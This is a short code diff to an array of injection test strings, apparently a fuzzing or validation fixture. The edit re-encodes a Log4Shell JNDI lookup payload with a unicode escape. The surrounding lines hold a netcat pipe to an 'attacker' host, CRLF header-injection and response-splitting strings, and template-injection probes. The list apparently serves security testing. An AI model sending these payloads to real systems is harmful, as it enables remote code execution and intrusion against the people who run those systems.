@@ -14,7 +14,7 @@ export const INJECTIONS = [
   "| nc attacker 4444",
   "1\r\nX-Evil: 1",
   "1\r\n\r\nHTTP/1.1 200 OK",
-  "${jndi:ldap://attacker/a}",
+  "\u0024{jndi:ldap://attacker/a}",
   "{{7*7}}",
   "<%= 7*7 %>",
   "#{7*7}",
